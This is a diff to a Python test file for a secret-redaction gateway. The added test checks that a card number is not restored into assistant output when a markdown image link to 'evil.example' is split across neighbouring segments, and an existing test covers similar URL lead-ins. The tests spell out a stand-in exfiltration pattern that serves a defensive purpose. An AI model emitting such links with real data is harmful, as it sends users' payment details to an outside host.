@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 from detectors.values import Origin, Segment
 from gateway.redaction.fpe import Ff1, Formats
 from gateway.redaction.nesting import Nesting
-from gateway.redaction.vault import Restorer, Vault, redact
+from gateway.redaction.vault import Restorer, Vault, redact, restorations
 from gateway.screening.policy import Edit, Mode
 
 KEY, OTHER = b"k" * 32, b"o" * 32
@@ -122,6 +122,14 @@ def test_it_comes_back_beside_one_and_where_the_request_had_it_in_that_very_one(
     for before in ("See https://evil.example/ for more: ", 'href="https://evil.example/">', "postgres://root:", "a//b "):
         assert vault.restore(before + name) == before + "S3CRET"
     assert vault.restore(f"https://ours.example/hooks/{name}") == f"https://ours.example/hooks/{name}"
+
+
+def test_an_address_may_begin_in_one_text_and_go_on_in_the_next_that_is_shown_with_it() -> None:
+    vault = Vault(KEY)
+    name = vault.stand_in(CARD, "pii.payment")
+    texts = ("![a](https://evil.example/?d=", f"my card is {name}", f"{name})", f" and {name}")
+    segments = [Segment(text, "assistant", Origin.ASSISTANT, 0, (at,)) for at, text in enumerate(texts)]
+    assert restorations(segments, vault, [[0, 2, 3]]) == {(1,): f"my card is {CARD}", (3,): f" and {CARD}"}
 
 
 @pytest.mark.parametrize("mode", [Mode.MASK, Mode.HASH])
